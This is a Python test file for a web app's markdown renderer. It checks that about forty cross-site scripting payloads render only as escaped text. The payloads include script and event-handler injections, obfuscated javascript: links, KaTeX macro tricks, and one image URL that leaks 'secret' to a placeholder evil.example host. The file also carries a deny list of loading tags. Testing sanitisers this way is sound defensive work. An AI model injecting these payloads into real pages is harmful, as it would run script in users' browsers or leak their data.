"""Whatever a model writes, a page shows it and nothing runs or loads."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from webapp.common.markdown import MarkdownStream, render

_ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](//evil.example)",
    "[a](/admin/)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '[a](https://ok.example "onmouseover=alert(1)")',
    '[a](https://ok.example" onmouseover="alert(1))',
    "**_<b onclick=alert(1)>_**",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script> | 2 |",
    "> <details open ontoggle=alert(1)>",
    "# <a href=javascript:alert(1)>x</a>",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(https://evil.example)}{x}$",
    r"$\frac{<img src=x onerror=alert(1)>$",
    "$$\n\\begin{<script>alert(1)</script>}\n$$",
    r"\(\mathrm{</math><script>alert(1)</script>}\)",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "</p></div><script>alert(1)</script>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<style>@import 'https://evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>",
]
_LOADING = {"script", "img", "iframe", "svg", "style", "link", "meta", "object", "form"}


class _Auditor(HTMLParser):
    """Reads HTML as a browser would and remembers what must not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.complaints: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _LOADING:
            self.complaints.append(f"<{tag}>")
        for name, value in attrs:
            self._check_attribute(tag, name, value or "")

    def _check_attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in {"style", "src", "srcset", "id", "action"}:
            self.complaints.append(f"{tag} {name}")
        if name == "href" and (
            tag != "a" or not value.startswith(("http://", "https://", "mailto:"))
        ):
            self.complaints.append(f"{tag} href={value}")


def _complaints(html: str) -> list[str]:
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.complaints


def test_the_auditor_sees_what_is_wrong() -> None:
    assert _complaints("<img src=x onerror=y><a href='javascript:1'>") == [
        "<img>",
        "img src",
        "img onerror",
        "a href=javascript:1",
    ]


@pytest.mark.parametrize("attack", _ATTACKS)
def test_an_attack_is_only_text(attack: str) -> None:
    assert _complaints("".join(render(attack))) == []


@pytest.mark.parametrize("attack", _ATTACKS)
def test_an_attack_in_single_characters_is_only_text(attack: str) -> None:
    stream = MarkdownStream()
    html = [block.html for character in attack for block in stream.feed(character)]
    html += [block.html for block in stream.finish()]
    assert _complaints("".join(html)) == []


@given(st.lists(st.sampled_from(_ATTACKS), min_size=2, max_size=5), st.text(max_size=5))
@settings(max_examples=150, deadline=None)
def test_attacks_together_are_only_text(attacks: list[str], glue: str) -> None:
    assert _complaints("".join(render(glue.join(attacks)))) == []


def test_text_that_looks_like_html_is_still_readable() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render(_ATTACKS[0])[0]
    assert "&lt;script&gt;" in render(r"$\text{<script>}$")[0]


def test_links_open_elsewhere_and_tell_nothing() -> None:
    [block] = render("[a](https://ok.example/x?y=1&z=2)")
    assert 'rel="noopener noreferrer nofollow"' in block
    assert 'target="_blank"' in block
    assert 'href="https://ok.example/x?y=1&amp;z=2"' in block


def test_a_remote_picture_is_a_link_and_not_loaded() -> None:
    [block] = render("![A cat](https://pictures.example/cat.png)")
    assert "<img" not in block
    assert ">A cat</a>" in block
